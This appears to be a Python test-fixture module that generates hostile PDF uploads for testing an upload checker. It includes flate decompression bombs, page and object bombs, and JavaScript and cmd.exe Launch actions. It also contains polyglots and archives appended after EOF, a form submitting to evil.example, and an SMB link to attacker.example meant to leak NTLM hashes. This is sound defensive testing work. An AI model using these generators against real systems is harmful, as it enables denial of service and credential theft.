"""The hostile-upload corpus: every file is built here at test time, none is committed.

Small cases are built with pikepdf; the bombs as raw bytes, because pikepdf (qpdf) would
need the very time and memory the check must not spend to write them. Each builder returns
the bytes of one file and says in its docstring what makes it hostile.
"""

import io
import zipfile
import zlib

import pikepdf

from core.pdf_uploads import MAX_UPLOAD_BYTES

# --- writing PDFs by hand ------------------------------------------------------------------


def raw_pdf(objects, *, root=1, trailer=b""):
    """A PDF with a classic cross-reference table: ``objects`` maps numbers to bodies."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        if number in offsets:
            out += b"%010d 00000 n \n" % offsets[number]
        else:
            out += b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        root,
        trailer,
        xref,
    )
    return bytes(out)


def stream(data, dictionary=b"", *, compress=True):
    """The body of a stream object, flate-compressed unless ``compress`` is false."""
    if compress:
        data = zlib.compress(data)
        dictionary += b" /Filter /FlateDecode"
    return b"<< /Length %d %s >>\nstream\n" % (len(data), dictionary) + data + b"\nendstream"


def packed_pdf(objects, *, root=1, per_stream=20_000):
    """A PDF whose ``objects`` (numbers 1..n, no streams) sit compressed in object streams,
    found through a compressed cross-reference stream: a few bytes per object on disk."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    numbers = sorted(objects)
    size = numbers[-1] + 1
    entries = {}  # number -> (type, field2, field3)
    next_number = size
    for start in range(0, len(numbers), per_stream):
        chunk = numbers[start : start + per_stream]
        header, body = bytearray(), bytearray()
        for index, number in enumerate(chunk):
            header += b"%d %d " % (number, len(body))
            body += objects[number] + b"\n"
            entries[number] = (2, next_number, index)
        data = bytes(header) + bytes(body)
        entries[next_number] = (1, len(out), 0)
        out += (
            b"%d 0 obj\n" % next_number
            + stream(data, b"/Type /ObjStm /N %d /First %d" % (len(chunk), len(header)))
            + b"\nendobj\n"
        )
        next_number += 1
    xref_number = next_number
    entries[xref_number] = (1, len(out), 0)
    size = xref_number + 1
    table = bytearray()
    for number in range(size):
        kind, second, third = entries.get(number, (0, 0, 65535))
        table += bytes([kind]) + second.to_bytes(4, "big") + third.to_bytes(2, "big")
    xref = entries[xref_number][1]
    out += (
        b"%d 0 obj\n" % xref_number
        + stream(bytes(table), b"/Type /XRef /Size %d /W [1 4 2] /Root %d 0 R" % (size, root))
        + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref
    )
    return bytes(out)


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"


def page_objects(count):
    """A catalogue (1), a flat page tree (2) and ``count`` empty pages (3 onwards)."""
    kids = b" ".join(b"%d 0 R" % number for number in range(3, count + 3))
    objects = {1: CATALOG, 2: b"<< /Type /Pages /Count %d /Kids [%s] >>" % (count, kids)}
    objects.update(dict.fromkeys(range(3, count + 3), PAGE))
    return objects


# --- small cases, written with pikepdf ---------------------------------------------------


def one_page_pdf():
    pdf = pikepdf.new()
    pdf.add_blank_page()
    return pdf


def pdf_bytes(pdf=None, **save_options):
    pdf = pdf or one_page_pdf()
    buffer = io.BytesIO()
    pdf.save(buffer, **save_options)
    return buffer.getvalue()


def javascript_action(pdf):
    return pdf.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1);"))
    )


def uri_action():
    return pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://example.org/"))


def annotation(subtype, **entries):
    """An annotation dictionary of ``subtype`` (a name without its slash)."""
    return pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name(f"/{subtype}"),
        Rect=pikepdf.Array([0, 0, 100, 100]),
        **entries,
    )


def with_annotations(pdf, *annotations):
    """``pdf`` with ``annotations`` on its first page."""
    pdf.pages[0].obj.Annots = pdf.make_indirect(
        pikepdf.Array([pdf.make_indirect(annotation) for annotation in annotations])
    )
    return pdf


def with_link_annotation(pdf, action):
    return with_annotations(pdf, annotation("Link", A=action))


def pdf_of_size(size):
    """A valid PDF of exactly `size` bytes, padded with an uncompressed stream."""
    pdf = one_page_pdf()
    pdf.Root.Padding = pdf.make_stream(b"")
    data = pdf_bytes(pdf, compress_streams=False)
    while len(data) != size:
        padding = pdf.Root.Padding.read_bytes()
        pdf.Root.Padding.write(b"0" * (len(padding) + size - len(data)))
        data = pdf_bytes(pdf, compress_streams=False)
    return data


def html_named_pdf():
    return b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"


def zip_named_pdf():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("form.pdf", pdf_bytes())
    return buffer.getvalue()


def pdf_html_polyglot():
    # A browser renders this as HTML; a PDF reader finds the PDF within the first 1024 bytes.
    return b"<html><!--\n" + pdf_bytes() + b"\n--><script>alert(1)</script></html>"


def pdf_header_in_the_first_kilobyte():
    return b"\n" * 10 + pdf_bytes()


def encrypted_with_password():
    return pdf_bytes(encryption=pikepdf.Encryption(owner="o", user="u"))


def encrypted_without_user_password():
    # Opens without a password, but is still encrypted (and so cannot be checked or archived).
    return pdf_bytes(encryption=pikepdf.Encryption(owner="o", user=""))


def javascript_in_names_tree():
    pdf = one_page_pdf()
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(
            Names=pikepdf.Array([pikepdf.String("init"), javascript_action(pdf)])
        )
    )
    return pdf_bytes(pdf)


def javascript_in_object_stream():
    # The same script, but compressed inside an object stream where a byte scan misses it.
    pdf = one_page_pdf()
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(
            Names=pikepdf.Array([pikepdf.String("init"), javascript_action(pdf)])
        )
    )
    data = pdf_bytes(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"/JavaScript" not in data
    return data


def open_action_with_javascript():
    pdf = one_page_pdf()
    pdf.Root.OpenAction = javascript_action(pdf)
    return pdf_bytes(pdf)


def open_action_with_uri():
    pdf = one_page_pdf()
    pdf.Root.OpenAction = uri_action()
    return pdf_bytes(pdf)


def document_additional_actions():
    pdf = one_page_pdf()
    pdf.Root.AA = pikepdf.Dictionary(WC=uri_action())
    return pdf_bytes(pdf)


def page_additional_actions():
    pdf = one_page_pdf()
    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=uri_action())
    return pdf_bytes(pdf)


def link_with_javascript():
    pdf = one_page_pdf()
    return pdf_bytes(with_link_annotation(pdf, javascript_action(pdf)))


def link_with_bare_script():
    # A script without "/S /JavaScript": lenient readers still run the /JS entry.
    pdf = one_page_pdf()
    return pdf_bytes(with_link_annotation(pdf, pikepdf.Dictionary(JS=pikepdf.String("1;"))))


def link_with_launch():
    pdf = one_page_pdf()
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    return pdf_bytes(with_link_annotation(pdf, launch))


def embedded_file():
    pdf = one_page_pdf()
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(
        pdf, b"MZ\x90\x00", filename="invoice.exe"
    )
    return pdf_bytes(pdf)


def file_attachment_annotation():
    # Only the annotation: its file specification points outside, nothing is embedded.
    spec = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=pikepdf.String("invoice.exe"))
    return pdf_bytes(with_annotations(one_page_pdf(), annotation("FileAttachment", FS=spec)))


def xfa_form():
    pdf = one_page_pdf()
    pdf.Root.AcroForm = pikepdf.Dictionary(
        Fields=pikepdf.Array(),
        XFA=pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>"),
    )
    return pdf_bytes(pdf)


def oversize():
    return b"%PDF-1.7\n" + b"0" * (MAX_UPLOAD_BYTES + 1 - len(b"%PDF-1.7\n"))


def empty():
    return b""


def garbage_after_header():
    return b"%PDF-1.7\n" + b"this is not a PDF body\n" * 50


def truncated_pdf():
    data = pdf_bytes()
    return data[: len(data) // 2]


def header_only():
    return b"%PDF-"


# --- the bombs -----------------------------------------------------------------------------


def many_pages(count=900_000):
    """900,000 empty pages in object streams, under 10 MB (the attack's: 52-115 s, 2.4 GB)."""
    return packed_pdf(page_objects(count))


def many_objects(count=1_000_000):
    """One page and a million small objects nobody refers to (the attack's: 24 s)."""
    objects = page_objects(1)
    objects.update(dict.fromkeys(range(4, count + 4), b"0"))
    return packed_pdf(objects)


def repeated_page(count=3_000_000):
    """A page tree whose /Kids names one page three million times: four objects in all,
    a few kilobytes on disk; a reader that lists the pages makes three million of them."""
    kids = b"3 0 R " * count
    objects = {
        1: CATALOG,
        2: b"<< /Type /Pages /Count 1 /Kids [%s] >>" % kids,
        3: PAGE,
    }
    return packed_pdf(objects)


def zeros_deflated(size):
    """A zlib stream of ``size`` zero bytes, built in O(size / 1000) without inflating it.

    Deflate blocks after a full flush depend on nothing before them, so one compressed
    megabyte of zeros can be repeated; the Adler-32 of n zeros is (n mod 65521) << 16 | 1.
    """
    megabyte = 1024 * 1024
    assert size % megabyte == 0
    compressor = zlib.compressobj(9)
    first = compressor.compress(bytes(megabyte)) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(bytes(megabyte)) + compressor.flush(zlib.Z_FULL_FLUSH)
    end = compressor.flush(zlib.Z_FINISH)[:-4]  # the final empty block, without the checksum
    body = first + block * (size // megabyte - 1) + end
    return body + (((size % 65521) << 16) | 1).to_bytes(4, "big")


def flate_bomb_content(size=8 * 1024**3):
    """A one-page PDF whose page content inflates to 8 GB of zeros (8 MB on disk)."""
    data = zeros_deflated(size)
    objects = {
        1: CATALOG,
        2: b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        4: b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(data) + data + b"\nendstream",
    }
    return raw_pdf(objects)


def flate_bomb_object_stream(size=4 * 1024**3):
    """An object stream that inflates to 4 GB: a reader must inflate it to find any object."""
    data = zeros_deflated(size)
    objects = {
        1: CATALOG,
        2: b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        3: PAGE,
        4: b"<< /Type /ObjStm /N 1 /First 4 /Length %d /Filter /FlateDecode >>\nstream\n"
        % len(data)
        + data
        + b"\nendstream",
    }
    return raw_pdf(objects)


def double_flate_bomb(size=4 * 1024**3):
    """Flate inside flate: the outer layer is small, the inner one inflates to 4 GB."""
    inner = zeros_deflated(size)
    outer = zlib.compress(inner, 9)
    objects = {
        1: CATALOG,
        2: b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        4: b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n" % len(outer)
        + outer
        + b"\nendstream",
    }
    return raw_pdf(objects)


# --- actions beyond internal links and web addresses -------------------------------------


def link_with(action):
    """A one-page PDF with a link annotation that runs ``action`` (a pikepdf.Dictionary)."""
    pdf = one_page_pdf()
    return pdf_bytes(with_link_annotation(pdf, action))


def action(kind, **entries):
    return pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **entries)


def submit_form():
    return link_with(action("SubmitForm", F=pikepdf.String("https://evil.example/collect")))


def import_data():
    return link_with(action("ImportData", F=pikepdf.String("data.fdf")))


def reset_form():
    return link_with(action("ResetForm"))


def goto_remote_share():
    r"""A link that opens a file on ``\\host\share``: Windows sends the user's NTLM hash."""
    return link_with(
        action(
            "GoToR",
            F=pikepdf.String(r"\\attacker.example\share\x.pdf"),
            D=pikepdf.Array([0, pikepdf.Name.Fit]),
        )
    )


def goto_embedded():
    return link_with(action("GoToE", T=pikepdf.Dictionary(R=pikepdf.Name.C, N=pikepdf.String("x"))))


def uri_javascript():
    return link_with(action("URI", URI=pikepdf.String("javascript:alert(document.cookie)")))


def uri_javascript_hidden():
    """The scheme broken up by a tab and in capitals, as browsers still read it."""
    return link_with(action("URI", URI=pikepdf.String("Java\tScRiPt:alert(1)")))


def uri_file():
    return link_with(action("URI", URI=pikepdf.String("file:///etc/passwd")))


def uri_smb():
    return link_with(action("URI", URI=pikepdf.String("smb://attacker.example/share")))


def rendition_action():
    return link_with(action("Rendition", OP=0))


def movie_action():
    return link_with(action("Movie", T=pikepdf.String("clip")))


def sound_action():
    return link_with(action("Sound", Sound=pikepdf.Dictionary()))


def named_action():
    return link_with(action("Named", N=pikepdf.Name.Print))


def unknown_link_action():
    return link_with(action("Frobnicate"))


def javascript_after_a_web_link():
    """A harmless-looking web link whose /Next action is a script."""
    return link_with(
        action(
            "URI",
            URI=pikepdf.String("https://example.org/"),
            Next=action("JavaScript", JS=pikepdf.String("app.alert(1)")),
        )
    )


def media_annotation(subtype):
    def build():
        return pdf_bytes(with_annotations(one_page_pdf(), annotation(subtype)))

    build.__name__ = f"{subtype.lower()}_annotation"
    return build


def open_action_javascript_indirect_next():
    """The document opens at page 1 (harmless), then runs a script chained behind it."""
    pdf = one_page_pdf()
    pdf.Root.OpenAction = action(
        "GoTo",
        D=pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit]),
        Next=javascript_action(pdf),
    )
    return pdf_bytes(pdf)


# --- data after the end --------------------------------------------------------------------


def zip_archive():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payload.js", "alert(1)")
    return buffer.getvalue()


def zip_after_eof():
    """A PDF and a ZIP archive in one file: readers open the PDF, unzip finds the archive."""
    return pdf_bytes() + zip_archive()


def html_after_eof():
    return pdf_bytes() + b"<html><script>alert(1)</script></html>\n"


def garbage_after_eof():
    return pdf_bytes() + b"\x00\x01garbage" * 10


def zip_between_two_eofs():
    """A ZIP archive smuggled in as an 'incremental update', with a trailer copied behind it."""
    data = pdf_bytes()
    tail = data[data.rindex(b"startxref") :]
    return data + zip_archive() + b"\n" + tail


# --- what still passes ---------------------------------------------------------------------


def incremental_update(data=None):
    """``data`` with an incremental update appended, as a digital signature writes one:
    a changed /Info, a cross-reference section for it and a trailer pointing back (/Prev)."""
    data = data or pdf_bytes(one_page_pdf(), object_stream_mode=pikepdf.ObjectStreamMode.disable)
    with pikepdf.open(io.BytesIO(data)) as pdf:
        size = int(pdf.trailer.Size)
        root = pdf.Root.objgen[0]
    previous = int(data[data.rindex(b"startxref") :].split()[1])
    update = bytearray(data if data.endswith(b"\n") else data + b"\n")
    offset = len(update)
    update += (
        b"%d 0 obj\n<< /Producer (Signing tool) /ModDate (D:20260101120000Z) >>\nendobj\n" % size
    )
    xref = len(update)
    update += b"xref\n0 1\n0000000000 65535 f \n%d 1\n%010d 00000 n \n" % (size, offset)
    update += b"trailer\n<< /Size %d /Root %d 0 R /Info %d 0 R /Prev %d >>\n" % (
        size + 1,
        root,
        size,
        previous,
    )
    update += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(update)


def pdf_with_web_and_mail_links():
    pdf = one_page_pdf()
    links = [
        action("URI", URI=pikepdf.String("https://example.org/rahmenvereinbarung")),
        action("URI", URI=pikepdf.String("http://example.org/")),
        action("URI", URI=pikepdf.String("mailto:info@example.org")),
        action("GoTo", D=pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit])),
    ]
    with_annotations(pdf, *(annotation("Link", A=link) for link in links))
    pdf.Root.OpenAction = pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit])
    return pdf_bytes(pdf)


def pages(count):
    """A legitimate PDF of ``count`` empty pages."""
    return packed_pdf(page_objects(count))
